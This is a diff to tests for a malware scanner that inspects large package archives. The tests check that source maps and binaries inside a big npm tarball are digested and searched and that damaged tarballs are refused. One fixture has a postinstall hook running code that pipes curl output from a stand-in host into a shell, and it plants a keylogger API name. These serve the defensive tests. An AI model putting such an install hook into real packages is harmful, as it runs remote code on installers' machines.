@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { deflateRawSync } from "node:zlib";
-import { type ZipMember, zipOf } from "../../test/support/archives.ts";
+import { deflateRawSync, gzipSync } from "node:zlib";
+import { tar, type ZipMember, zipOf } from "../../test/support/archives.ts";
 import type { Packed } from "../lib/archives/packed.ts";
 import { sha256Hex } from "../lib/digest.ts";
 import { DEFAULT_LIMITS } from "../limits.ts";
@@ -42,7 +42,10 @@ const about = { filename: "demo-1.0-py3-none-any.whl", ecosystem: "pypi" } as co
 const tree = async (bytes: Buffer) => {
   const packed = fromFile(bytes);
   const large = await passLargeMembers(packed, DEFAULT_LIMITS, PREFILTER);
-  return { packed, files: unpack({ ...about, bytes: packed, large }, DEFAULT_LIMITS, PREFILTER).files };
+  return {
+    packed,
+    files: unpack({ ...about, bytes: packed, ...(large && { large }) }, DEFAULT_LIMITS, PREFILTER).files,
+  };
 };
 
 for (const store of [true, false]) {
@@ -103,6 +106,60 @@ test("a large member that lies about its size, its checksum or its end is refuse
   ];
   for (const [bytes, says] of lies) {
     const { verdict } = await inspectLarge({ ...about, bytes: fromFile(bytes) });
+    assert.equal(verdict.word, "unknown");
+    assert.match(verdict.because ?? "", says);
+  }
+});
+
+const MIB = 1 << 20;
+const npm = { filename: "demo-1.0.0.tgz", ecosystem: "npm" } as const;
+
+/** An npm package with a source map, code, and a program that runs at installation, which unpacks to more than is worth holding. */
+function tarball(): { readonly map: Buffer; readonly packed: Buffer } {
+  const map = Buffer.alloc(60 * MIB, " ");
+  map.write('{"version":3}');
+  map.write("GetAsyncKeyState", map.length - 20);
+  const files = {
+    "package/package.json": '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node a.js"}}',
+    "package/a.js": "require('child_process').exec('curl http://example.invalid/x | sh')\n",
+    "package/a.js.map": map,
+    "package/b.node": Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(50 * MIB)]),
+    "package/c.js.map": '{"version":3}',
+  };
+  return { map, packed: gzipSync(tar(files), { level: 0 }) };
+}
+
+test("of a large tar, source maps and programs keep their first part, their digest and what a search to their end found", async () => {
+  const { map, packed } = tarball();
+  const large = await passLargeMembers(fromFile(packed), DEFAULT_LIMITS, PREFILTER);
+  assert.ok(large?.tar);
+  const { files } = unpack({ ...npm, bytes: fromFile(packed), large }, DEFAULT_LIMITS, PREFILTER);
+  const file = files.find(({ path }) => path === "package/a.js.map")!;
+  assert.deepEqual([file.bytes.length, file.size, file.sha256], [MIB / 4, map.length, sha256Hex(map)]);
+  assert.ok(file.has("GetAsyncKeyState"));
+  const small = files.find(({ path }) => path === "package/c.js.map")!;
+  assert.deepEqual([small.bytes.length, small.size], [13, 13]);
+});
+
+test("the verdict on a large tarball does not depend on whether its large members were held", async () => {
+  const { packed } = tarball();
+  const [held, passed] = [inspect({ ...npm, bytes: packed }), await inspectLarge({ ...npm, bytes: fromFile(packed) })];
+  assert.equal(held.verdict.word, "malicious");
+  assert.deepEqual([passed.verdict, passed.findings], [held.verdict, held.findings]);
+  assert.equal(passed.facts?.unpackedBytes, held.facts?.unpackedBytes);
+});
+
+test("a large tarball that is damaged, or that lies about its length, is refused", async () => {
+  const { packed } = tarball();
+  const damaged = Buffer.from(packed);
+  damaged[damaged.length >> 1]! ^= 0xff;
+  const lies = [
+    [damaged, /damaged|checksum|too early/],
+    [packed.subarray(0, -8), /too early|neither/],
+    [Buffer.concat([packed.subarray(0, -4), Buffer.from([0xff, 0xff, 0xff, 0xff])]), /length/],
+  ] as const;
+  for (const [bytes, says] of lies) {
+    const { verdict } = await inspectLarge({ ...npm, bytes: fromFile(bytes) });
     assert.equal(verdict.word, "unknown");
     assert.match(verdict.because ?? "", says);
   }
